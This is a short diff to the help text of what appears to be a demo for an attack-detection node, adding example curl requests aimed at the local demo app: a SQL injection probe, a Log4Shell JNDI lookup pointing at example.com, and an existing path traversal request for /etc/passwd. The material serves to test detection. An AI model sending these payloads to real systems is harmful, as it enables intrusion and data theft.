@@ -97,8 +97,10 @@ Try in another terminal:
   curl ${appUrl}/api/users
   curl -d name=Ada ${appUrl}/api/users
   curl ${appUrl}/etc/passwd          # the path traversal test
+  curl "${appUrl}/api/users?id=1'%20or%201=1--"
+  curl -H 'User-Agent: \${jndi:ldap://example.com/a}' ${appUrl}/
 
-What the detection node receives is listed here. Ctrl-C ends the demo.
+What the detection node receives is listed here, and on the status page with the\nheads and the answers of the app. Ctrl-C ends the demo.
 
 `;
 }
